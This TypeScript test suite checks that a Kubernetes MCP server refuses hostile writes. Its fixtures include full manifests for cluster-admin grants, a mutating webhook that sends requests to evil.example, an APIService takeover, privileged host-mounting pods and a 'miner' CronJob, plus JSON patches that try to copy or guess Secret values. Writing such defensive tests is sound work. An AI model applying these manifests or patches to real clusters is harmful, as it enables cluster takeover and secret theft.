/**
 * The write path against a caller who means harm, through the real MCP client with every write enabled and
 * `--deny-kinds Namespace`: grants, admission hooks, API takeover and escalating pods are refused before anything is
 * saved (also when they arrive by patch); JSON patches cannot read what reads hide; an allow list lifts one thing by
 * name and says so in the audit.
 */
import { get, list } from '../../lib/kube';
import { SECRET, SECRET_FORMS, type AttackStack, startAttackStack } from './attack-fixture';
import { callTool, textOf } from './helpers';

let s: AttackStack;
let lifted: AttackStack;

beforeAll(async () => {
  s = await startAttackStack({ denyKinds: ['Namespace'] });
  lifted = await startAttackStack({ allowKinds: ['Secret'], allowEscalation: ['hostNetwork'] });
}, 90_000);

afterAll(async () => {
  const everything = [...s.logs, ...lifted.logs, JSON.stringify(s.audit()), JSON.stringify(lifted.audit())].join('\n');
  for (const form of SECRET_FORMS) expect(everything).not.toContain(form);
  await s?.close();
  await lifted?.close();
});

/** requests that would change the cluster: every write without dryRun=All */
const realWrites = (st: AttackStack) => st.proxy.writes().filter((r) => r.query.get('dryRun') !== 'All');

const doc = (lines: string[]) => lines.join('\n');

const HOSTILE_MANIFESTS: [string, string][] = [
  [
    'a RoleBinding of cluster-admin to system:authenticated',
    doc([
      'apiVersion: rbac.authorization.k8s.io/v1',
      'kind: RoleBinding',
      'metadata: {name: everyone-admin, namespace: victim}',
      'roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}',
      'subjects: [{apiGroup: rbac.authorization.k8s.io, kind: Group, name: "system:authenticated"}]',
    ]),
  ],
  [
    'a ClusterRole with */*/* aggregated into view',
    doc([
      'apiVersion: rbac.authorization.k8s.io/v1',
      'kind: ClusterRole',
      'metadata:',
      '  name: sneaky',
      '  labels: {rbac.authorization.k8s.io/aggregate-to-view: "true"}',
      'rules: [{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}]',
    ]),
  ],
  [
    'a MutatingWebhookConfiguration calling an outside URL',
    doc([
      'apiVersion: admissionregistration.k8s.io/v1',
      'kind: MutatingWebhookConfiguration',
      'metadata: {name: grab}',
      'webhooks:',
      '- name: grab.evil.example',
      '  clientConfig: {url: "https://evil.example/mutate"}',
      '  rules: [{operations: ["*"], apiGroups: ["*"], apiVersions: ["*"], resources: ["*/*"]}]',
      '  sideEffects: None',
      '  admissionReviewVersions: [v1]',
    ]),
  ],
  [
    'an APIService taking over metrics.k8s.io',
    doc([
      'apiVersion: apiregistration.k8s.io/v1',
      'kind: APIService',
      'metadata: {name: v1beta1.metrics.k8s.io}',
      'spec: {group: metrics.k8s.io, version: v1beta1, service: {name: evil, namespace: victim}, groupPriorityMinimum: 100, versionPriority: 100, insecureSkipTLSVerify: true}',
    ]),
  ],
  [
    'a privileged hostPID pod mounting /',
    doc([
      'apiVersion: v1',
      'kind: Pod',
      'metadata: {name: root-shell, namespace: victim}',
      'spec:',
      '  hostPID: true',
      '  volumes: [{name: host, hostPath: {path: /}}]',
      '  containers:',
      '  - name: sh',
      '    image: busybox',
      '    securityContext: {privileged: true}',
      '    volumeMounts: [{name: host, mountPath: /host}]',
    ]),
  ],
  [
    'a DaemonSet adding SYS_ADMIN',
    doc([
      'apiVersion: apps/v1',
      'kind: DaemonSet',
      'metadata: {name: agent, namespace: victim}',
      'spec:',
      '  selector: {matchLabels: {app: agent}}',
      '  template:',
      '    metadata: {labels: {app: agent}}',
      '    spec: {containers: [{name: a, image: x, securityContext: {capabilities: {add: [SYS_ADMIN]}}}]}',
    ]),
  ],
  [
    'a Secret',
    doc(['apiVersion: v1', 'kind: Secret', 'metadata: {name: planted, namespace: victim}', 'stringData: {a: b}']),
  ],
  [
    'a good ConfigMap followed by a hostNetwork CronJob (nothing applied)',
    doc([
      'apiVersion: v1',
      'kind: ConfigMap',
      'metadata: {name: innocent, namespace: victim}',
      '---',
      'apiVersion: batch/v1',
      'kind: CronJob',
      'metadata: {name: miner, namespace: victim}',
      'spec:',
      '  schedule: "* * * * *"',
      '  jobTemplate: {spec: {template: {spec: {hostNetwork: true, restartPolicy: Never, containers: [{name: m, image: x}]}}}}',
    ]),
  ],
];

describe('apply_resource with a hostile manifest', () => {
  it.each(HOSTILE_MANIFESTS)('refuses %s and saves nothing', async (_label, manifest) => {
    const before = realWrites(s).length;
    for (const tool of ['apply_resource', 'create_resource']) {
      const r = await callTool(s.client, tool, { manifest });
      expect({ tool, isError: r.isError }).toEqual({ tool, isError: true });
      expect(textOf(r)).toMatch(/denied by default|escape their container|refused/);
    }
    expect(realWrites(s).slice(before)).toEqual([]);
  });

  it('nothing of it exists in the cluster', async () => {
    const names = async (kind: string, namespace?: string) =>
      (await list(s.kube, { kind, ...(namespace ? { namespace } : {}) })).items.map((i) => i.metadata?.name);
    expect(await names('RoleBinding', 'victim')).toEqual([]);
    expect(await names('ClusterRole')).not.toContain('sneaky');
    expect(await names('Pod', 'victim')).toEqual(['app-0']);
    expect(await names('ConfigMap', 'victim')).not.toContain('innocent');
    expect(await names('Secret', 'victim')).toEqual(['db']);
  });

  it('--deny-kinds adds to the defaults: Namespace and Secret are both refused', async () => {
    const ns = await callTool(s.client, 'apply_resource', {
      manifest: 'apiVersion: v1\nkind: Namespace\nmetadata: {name: extra}\n',
    });
    expect(textOf(ns)).toMatch(/denied by the write policy/);
    const secret = await callTool(s.client, 'delete_resource', { kind: 'secrets', name: 'db', namespace: 'victim' });
    expect(textOf(secret)).toMatch(/denied by default/);
  });
});

describe('escalation by patch is checked on the patched result', () => {
  it.each([
    ['strategic', { spec: { template: { spec: { hostPID: true } } } }],
    ['merge', { spec: { template: { spec: { volumes: [{ name: 'h', hostPath: { path: '/' } }] } } } }],
    [
      'json',
      [
        {
          op: 'add',
          path: '/spec/template/spec/containers/0/securityContext',
          value: { privileged: true, allowPrivilegeEscalation: true },
        },
      ],
    ],
  ])('a %s patch that makes the Deployment privileged is refused', async (type, body) => {
    const before = realWrites(s).length;
    for (const dryRun of [false, true]) {
      const r = await callTool(s.client, 'patch_resource', {
        kind: 'deploy',
        name: 'app',
        namespace: 'victim',
        type,
        patch: JSON.stringify(body),
        dryRun,
      });
      expect(r.isError).toBe(true);
      expect(textOf(r)).toMatch(/escape their container/);
    }
    expect(realWrites(s).slice(before)).toEqual([]);
    const dep = (await get(s.kube, { kind: 'Deployment', name: 'app', namespace: 'victim' })) as {
      spec: { template: { spec: Record<string, unknown> } };
    };
    expect(dep.spec.template.spec.hostPID).toBeUndefined();
    expect(dep.spec.template.spec.volumes).toBeUndefined();
    const refusal = s.audit().at(-1);
    expect(refusal).toMatchObject({ verb: 'patch', allowed: false });
    expect(String(refusal?.reason)).toMatch(/escape their container/);
  });

  it('an ordinary patch still works', async () => {
    const r = await callTool(s.client, 'patch_resource', {
      kind: 'deploy',
      name: 'app',
      namespace: 'victim',
      type: 'merge',
      patch: '{"metadata":{"labels":{"team":"a"}}}',
    });
    expect(textOf(r)).toMatch(/patched Deployment victim\/app/);
    expect(s.audit().at(-1)).toMatchObject({
      allowed: true,
      requests: [
        'PATCH /apis/apps/v1/namespaces/victim/deployments/app?dryRun=All',
        'PATCH /apis/apps/v1/namespaces/victim/deployments/app',
      ],
    });
  });
});

describe('JSON patches cannot read what reads hide', () => {
  const LAST_APPLIED = '/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration';
  it.each([
    [
      'copy Secret data into a label',
      'secrets',
      'db',
      [{ op: 'copy', from: '/data/password', path: '/metadata/labels/x' }],
    ],
    [
      'move Secret data into an annotation',
      'secrets',
      'db',
      [{ op: 'move', from: '/data/password', path: '/metadata/annotations/x' }],
    ],
    ['test a guess of Secret data', 'secrets', 'db', [{ op: 'test', path: '/data/password', value: 'Z3Vlc3M=' }]],
    ['test the whole data map', 'secrets', 'db', [{ op: 'test', path: '/data', value: { password: 'Z3Vlc3M=' } }]],
    [
      'copy a redacted env value',
      'pods',
      'app-0',
      [{ op: 'copy', from: '/spec/containers/0/env/0/value', path: '/metadata/annotations/x' }],
    ],
    [
      'test a redacted env value',
      'pods',
      'app-0',
      [{ op: 'test', path: '/spec/containers/0/env/1/value', value: 'guess' }],
    ],
    [
      'copy a whole env list',
      'pods',
      'app-0',
      [{ op: 'copy', from: '/spec/containers/0/env', path: '/metadata/annotations/x' }],
    ],
    ['copy into a Secret value', 'secrets', 'db', [{ op: 'copy', from: '/metadata/name', path: '/data/password' }]],
    [
      'copy a Secret\u2019s last-applied annotation',
      'secrets',
      'db',
      [{ op: 'copy', from: LAST_APPLIED, path: '/metadata/annotations/x' }],
    ],
  ])('%s is refused, with Secret writes allowed by name', async (_label, kind, name, ops) => {
    const before = realWrites(lifted).length;
    const r = await callTool(lifted.client, 'patch_resource', {
      kind,
      name,
      namespace: 'victim',
      type: 'json',
      patch: JSON.stringify(ops),
      dryRun: true,
    });
    expect(r.isError).toBe(true);
    expect(textOf(r)).toMatch(/reads hide|hidden value/);
    for (const form of SECRET_FORMS) expect(JSON.stringify(r)).not.toContain(form);
    expect(realWrites(lifted).slice(before)).toEqual([]);
    expect(lifted.audit().at(-1)).toMatchObject({ allowed: false });
  });

  it('a merge patch that copies nothing hidden is allowed on a Secret, and the audit says the kind was lifted', async () => {
    const r = await callTool(lifted.client, 'patch_resource', {
      kind: 'secrets',
      name: 'db',
      namespace: 'victim',
      type: 'merge',
      patch: '{"metadata":{"labels":{"rotated":"yes"}}}',
      dryRun: true,
    });
    expect(textOf(r)).toMatch(/dry run: patched Secret victim\/db/);
    expect(lifted.audit().at(-1)).toMatchObject({ allowed: true, allowedBy: ['kind Secret'] });
    expect(lifted.logs.join('\n')).toMatch(/write policy lifts defaults on purpose.*Secret/);
  });

  it('an escalation allowed by name is applied and named in the audit', async () => {
    const r = await callTool(lifted.client, 'apply_resource', {
      manifest: doc([
        'apiVersion: v1',
        'kind: Pod',
        'metadata: {name: edge, namespace: victim}',
        'spec: {hostNetwork: true, containers: [{name: c, image: x}]}',
      ]),
      dryRun: true,
    });
    expect(r.isError).toBeFalsy();
    expect(lifted.audit().at(-1)).toMatchObject({
      allowed: true,
      allowedBy: ['escalation hostNetwork at spec.hostNetwork'],
    });
    // privileged is still not allowed
    const worse = await callTool(lifted.client, 'apply_resource', {
      manifest: doc([
        'apiVersion: v1',
        'kind: Pod',
        'metadata: {name: edge, namespace: victim}',
        'spec: {hostNetwork: true, containers: [{name: c, image: x, securityContext: {privileged: true}}]}',
      ]),
      dryRun: true,
    });
    expect(textOf(worse)).toMatch(/privileged/);
  });

  it('the planted value is in the cluster (so its absence from outputs means something)', async () => {
    const raw = await fetch(`${lifted.proxy.url}/api/v1/namespaces/victim/secrets/db`).then((x) => x.text());
    expect(raw).toContain(Buffer.from(SECRET).toString('base64'));
  });
});
